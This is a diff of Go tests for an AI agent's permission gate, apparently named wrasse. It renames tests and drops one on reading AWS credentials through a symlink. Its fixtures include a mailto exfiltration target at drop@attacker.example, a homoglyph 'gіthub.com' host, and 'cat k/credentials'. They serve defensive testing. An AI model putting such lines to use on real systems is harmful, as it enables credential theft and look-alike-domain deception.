@@ -9,9 +9,12 @@ import (
 	"github.com/wrasse-app/wrasse/brain/gate"
 )
 
+// Everyday calls near the rules still run or ask once, and the cards say
+// what they cover.
+
 // What the a5 fixes must leave alone: everyday calls near the attacks
 // still run or ask once, and the cards say what they cover.
-func TestA5FixesKeepEverydayCalls(t *testing.T) {
+func TestEverydayCallsKeepRunning(t *testing.T) {
 	home := t.TempDir()
 	project := filepath.Join(home, "project")
 	for name, body := range map[string]string{".env": "KEY=x\n", "main.go": "package main\n", "docs/a.md": "# a\n"} {
@@ -38,7 +41,7 @@ func TestA5FixesKeepEverydayCalls(t *testing.T) {
 		{"open a PDF", "system_open", map[string]any{"target": filepath.Join(project, "report.pdf")}},
 		{"open a web address", "system_open", map[string]any{"target": "https://example.com/"}},
 	} {
-		if v := a5Check(t, env, c.tool, c.args); v.Decision != gate.Allow {
+		if v := checkArgs(t, env, c.tool, c.args); v.Decision != gate.Allow {
 			t.Errorf("%s: %s %q, want it allowed", c.name, v.Decision, v.Reasons)
 		}
 	}
@@ -47,7 +50,7 @@ func TestA5FixesKeepEverydayCalls(t *testing.T) {
 		"vim notes.txt", "python3 -m json.tool data.json", "go run ./cmd/tool", "npx tsc --noEmit", "ln -s ../lib/x.so build/x.so",
 		"cat .git/config", "awk '{print $1 > \"out.txt\"}' in.txt", "cat .editorconfig",
 	} {
-		if v := a2Check(t, corpusEnv, cmd); v.AlwaysAsk || v.Decision == gate.Block {
+		if v := checkCommand(t, corpusEnv, cmd); v.AlwaysAsk || v.Decision == gate.Block {
 			t.Errorf("%q: %s (always ask %v, %q), want an ordinary ask", cmd, v.Decision, v.AlwaysAsk, v.Reasons)
 		}
 	}
@@ -55,16 +58,16 @@ func TestA5FixesKeepEverydayCalls(t *testing.T) {
 
 // The cards name what they are about: a mailto's recipients, the page
 // opened, the xn-- host, and the archive's destination in the scope.
-func TestA5FixesSayWhy(t *testing.T) {
-	v := a5Check(t, corpusEnv, "system_open", map[string]any{"target": "mailto:drop@attacker.example?cc=b@x.example&body=k"})
+func TestCardsSayWhatTheyCover(t *testing.T) {
+	v := checkArgs(t, corpusEnv, "system_open", map[string]any{"target": "mailto:drop@attacker.example?cc=b@x.example&body=k"})
 	if !v.AlwaysAsk || !strings.Contains(strings.Join(v.Reasons, " "), "drop@attacker.example, b@x.example") {
 		t.Errorf("mailto: always ask %v, reasons %q; want both recipients named", v.AlwaysAsk, v.Reasons)
 	}
-	v = a5Check(t, corpusEnv, "system_open", map[string]any{"target": "/home/ann/project/report.html"})
+	v = checkArgs(t, corpusEnv, "system_open", map[string]any{"target": "/home/ann/project/report.html"})
 	if !v.AlwaysAsk || !strings.Contains(strings.Join(v.Reasons, " "), "report.html") {
 		t.Errorf("report.html: always ask %v, reasons %q", v.AlwaysAsk, v.Reasons)
 	}
-	v = a5Check(t, corpusEnv, "web_fetch", map[string]any{"url": "https://gіthub.com/"})
+	v = checkArgs(t, corpusEnv, "web_fetch", map[string]any{"url": "https://gіthub.com/"})
 	if len(v.Hosts) != 1 || !strings.HasPrefix(v.Hosts[0].Name, "xn--") {
 		t.Errorf("look-alike host: %v, want its xn-- form", v.Hosts)
 	}
@@ -73,26 +76,17 @@ func TestA5FixesSayWhy(t *testing.T) {
 	}
 }
 
-// A command reading a credential store through a link in a granted
-// folder asks every time, as fs_read does.
-func TestA5ShellReadsThroughALink(t *testing.T) {
-	home := t.TempDir()
-	project := filepath.Join(home, "project")
-	if err := os.MkdirAll(filepath.Join(home, ".aws"), 0o700); err != nil {
-		t.Fatal(err)
-	}
-	if err := os.MkdirAll(project, 0o755); err != nil {
-		t.Fatal(err)
-	}
-	if err := os.WriteFile(filepath.Join(home, ".aws", "credentials"), []byte("x"), 0o600); err != nil {
-		t.Fatal(err)
-	}
-	if err := os.Symlink("../.aws", filepath.Join(project, "k")); err != nil {
-		t.Fatal(err)
-	}
-	env := gate.Env{Home: home, Folders: []string{project}, Workspace: filepath.Join(home, ".local", "share", "wrasse")}
-	v := a5Check(t, env, "shell_exec", map[string]any{"command": "cat k/credentials", "cwd": project})
-	if !v.AlwaysAsk {
-		t.Errorf("cat k/credentials (k -> ~/.aws): %s (always ask %v, %q), want it to ask every time", v.Decision, v.AlwaysAsk, v.Reasons)
+// Everyday commands that ask every time (over-asking; not from the a5
+// fixes, but "approve for this chat" never covers them).
+func TestEverydayCommandsAlwaysAsk(t *testing.T) {
+	for _, cmd := range []string{
+		"NODE_ENV=production npm run build",
+		"RUST_LOG=debug cargo test",
+		"node --version",
+		"python3 --version",
+	} {
+		if v := checkProjectCommand(t, cmd); v.AlwaysAsk {
+			t.Errorf("%q asks every time (%q); an everyday command", cmd, v.Reasons)
+		}
 	}
 }
